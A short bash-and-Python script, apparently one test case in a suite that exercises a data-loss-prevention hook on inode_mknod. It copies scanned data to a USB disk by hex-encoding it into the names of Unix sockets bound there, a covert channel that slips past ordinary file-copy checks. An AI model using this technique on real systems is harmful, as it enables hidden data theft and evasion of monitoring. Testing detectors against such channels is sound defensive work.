#!/usr/bin/env bash
# technique: names of Unix sockets on the USB disk hold the data
# hooks: inode_mknod
# sink: usb

. attack.sh
mkdir -p "$COPY"
python3 - <<'PY'
from attack import *

text = scan()[:512].hex()
os.chdir(COPY)
for start in range(0, len(text), 64):
    socket.socket(socket.AF_UNIX).bind(text[start : start + 64])
PY
